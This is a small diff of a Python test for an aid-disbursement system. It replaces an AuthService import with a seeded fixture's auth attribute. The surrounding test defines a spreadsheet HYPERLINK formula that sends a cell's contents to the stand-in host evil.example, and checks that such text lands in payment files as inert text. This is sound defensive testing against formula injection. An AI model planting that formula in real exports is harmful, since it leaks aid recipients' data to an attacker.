@@ -9,7 +9,6 @@ from yimen.domain.model import AidRecord
 from yimen.services.checking.screening import screen, write_csv
 from yimen.services.funds.disbursement import DisbursementService
 from yimen.services.funds.slips import create_slips
-from yimen.services.staff.auth import AuthService
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"点击核对")'
 FORMULA_STARTS = tuple("=+-@\t\r")
@@ -44,7 +43,7 @@ def test_payment_file_carries_hostile_text_as_text(seeded):
             months=1,
             start=date(2026, 11, 25),
         )
-    auth = AuthService(seeded)
+    auth = seeded.auth
     service = DisbursementService(seeded)
     service.act(auth.staff_actor("centre"), "review", [slip.id])
     service.act(auth.staff_actor("finance"), "approve", [slip.id])
